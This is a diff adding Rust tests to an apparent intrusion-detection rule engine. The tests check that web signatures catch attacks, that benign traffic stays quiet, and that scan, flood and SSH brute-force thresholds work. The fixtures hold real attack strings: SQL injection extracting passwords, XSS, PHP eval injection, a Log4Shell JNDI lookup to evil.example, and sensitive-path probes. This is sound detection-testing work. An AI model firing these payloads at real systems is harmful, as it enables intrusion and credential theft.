@@ -144,8 +144,104 @@ mod tests {
         e.source.ip = Some("192.0.2.1".parse().unwrap());
         let mut out = Vec::new();
         engine.detect(&e, &mut out);
-        assert_eq!(out.len(), 1);
-        assert_eq!(out[0].rule.id, "web-path-traversal");
-        assert_eq!(out[0].entity.field, "source.ip");
+        let mut ids: Vec<&str> = out.iter().map(|f| f.rule.id.as_str()).collect();
+        ids.sort();
+        // A traversal towards /etc/passwd is also a sensitive-path probe.
+        assert_eq!(ids, ["web-path-traversal", "web-sensitive-path"]);
+        assert!(out.iter().all(|f| f.entity.field == "source.ip"));
+    }
+
+    fn request(ip: &str, url: &str, status: u16, agent: &str, at_ms: i64) -> Event {
+        let mut e = Event::new(EventKind::Event, at_ms);
+        e.category = vec!["web".into()];
+        e.source.ip = Some(ip.parse().unwrap());
+        e.url_original = Some(url.into());
+        e.http_status = Some(status);
+        e.user_agent = Some(agent.into());
+        e
+    }
+
+    fn fired(engine: &mut RuleEngine, events: &[Event]) -> Vec<String> {
+        let mut out = Vec::new();
+        for e in events {
+            engine.detect(e, &mut out);
+        }
+        let mut ids: Vec<String> = out.into_iter().map(|f| f.rule.id.clone()).collect();
+        ids.sort();
+        ids.dedup();
+        ids
+    }
+
+    const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
+
+    #[test]
+    fn each_web_signature_fires_on_its_attack() {
+        let cases = [
+            ("/item.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", BROWSER, "web-sqli"),
+            ("/search?q=%253Cscript%253Ealert(1)%253C/script%253E", BROWSER, "web-xss"),
+            ("/x.php?a=%5C%22;eval($_POST%5Bysy%5D);die();//", BROWSER, "web-code-injection"),
+            ("/?x=${jndi:ldap://evil.example/a}", BROWSER, "web-code-injection"),
+            ("/.git/config", BROWSER, "web-sensitive-path"),
+            ("/wp-login.php", BROWSER, "web-sensitive-path"),
+            ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "web-scanner-user-agent"),
+            ("/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "web-scanner-user-agent"),
+        ];
+        for (url, agent, rule) in cases {
+            let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
+            let ids = fired(&mut engine, &[request("203.0.113.7", url, 200, agent, 0)]);
+            assert!(ids.iter().any(|id| id == rule), "{url} / {agent}: {ids:?}");
+        }
+    }
+
+    #[test]
+    fn normal_browsing_fires_nothing() {
+        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
+        let pages = [
+            "/",
+            "/shop/item/42?ref=home&utm_source=news",
+            "/search?q=union+station+hotels",
+            "/blog/selecting-a-sleep-tracker",
+            "/static/app.js",
+            "/favicon.ico",
+        ];
+        // Ten visitors, each a few pages a second for a minute, with the odd 404.
+        let events: Vec<Event> = (0..600)
+            .map(|i| {
+                let status = if i % 97 == 0 { 404 } else { 200 };
+                request(&format!("198.51.100.{}", i % 10), pages[i % pages.len()], status, BROWSER, i as i64 * 100)
+            })
+            .collect();
+        assert!(fired(&mut engine, &events).is_empty());
+    }
+
+    #[test]
+    fn scans_and_floods_fire_their_thresholds() {
+        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
+        let scan: Vec<Event> =
+            (0..25).map(|i| request("203.0.113.8", &format!("/admin{i}.php"), 404, BROWSER, i * 500)).collect();
+        assert_eq!(fired(&mut engine, &scan), ["web-4xx-scan"]);
+        let flood: Vec<Event> = (0..250).map(|i| request("203.0.113.9", "/", 200, BROWSER, i * 20)).collect();
+        assert_eq!(fired(&mut engine, &flood), ["web-http-flood"]);
+    }
+
+    #[test]
+    fn ssh_scenarios_separate_enumeration_stuffing_and_slow_guessing() {
+        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
+        let enumerate: Vec<Event> = (0..6)
+            .map(|i| {
+                let mut e = failed_login("203.0.113.20", &format!("guest{i}"), i * 60_000, i);
+                e.action = Some("ssh_invalid_user".into());
+                e
+            })
+            .collect();
+        let ids = fired(&mut engine, &enumerate);
+        assert!(ids.contains(&"ssh-user-enumeration".to_owned()), "{ids:?}");
+        let stuffing: Vec<Event> =
+            (0..12).map(|i| failed_login("203.0.113.21", &format!("user{i}"), i * 200_000, i)).collect();
+        let ids = fired(&mut engine, &stuffing);
+        assert!(ids.contains(&"ssh-credential-stuffing".to_owned()), "{ids:?}");
+        // One failure every 20 minutes: never 5 in 10 minutes, but 10 within 6 hours.
+        let slow: Vec<Event> = (0..10).map(|i| failed_login("203.0.113.22", "root", i * 1_200_000, i)).collect();
+        assert_eq!(fired(&mut engine, &slow), ["ssh-slow-brute-force"]);
     }
 }
